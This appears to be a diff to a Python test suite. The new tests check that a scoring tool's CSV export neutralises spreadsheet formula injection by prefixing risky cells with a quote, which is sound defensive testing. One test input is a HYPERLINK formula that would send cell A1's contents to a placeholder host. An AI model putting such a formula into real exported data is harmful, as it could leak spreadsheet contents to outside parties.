@@ -17,6 +17,7 @@ from clip_emotion.errors import UsageError
 from scoring.config import RecencyConfig, ScoreConfig
 from scoring.output import (
     CSV_HEAD,
+    FORMULA,
     Failure,
     as_dict,
     csv_table,
@@ -123,10 +124,20 @@ def test_json_lines_name_the_conversation_only_among_several() -> None:
 def test_every_text_survives_csv_and_json_lines(text: str) -> None:
     one = replace(scored(), turns=(turn(1, text, 0.5, text),))
     (row,) = csv.DictReader(io.StringIO(csv_table([one], many=False), newline=""))
-    assert (row["text"], row["speaker"]) == (text, text)
+    written = f"'{text}" if text.startswith(FORMULA) else text
+    assert (row["text"], row["speaker"]) == (written, written)
     line = json_lines([one], many=False)
     assert line.count("\n") == 1
     assert json.loads(line)["text"] == text
+
+
+@pytest.mark.parametrize("text", ["=)", '=HYPERLINK("http://a.b/?"&A1)', "+82 10", "-_-", "@SUM(1)", "＝1+1"])
+def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
+    one = replace(scored(text), turns=(turn(1, text, 0.25, text),))
+    rows = list(csv.DictReader(io.StringIO(csv_table([one, Failure(text, text)], many=True), newline="")))
+    assert [rows[0][column] for column in ("conversation", "speaker", "text")] == [f"'{text}"] * 3
+    assert [rows[1][column] for column in ("conversation", "error")] == [f"'{text}"] * 2
+    assert float(rows[0]["score"]) == -0.5
 
 
 def test_csv_has_a_row_per_turn_and_a_column_per_label() -> None:
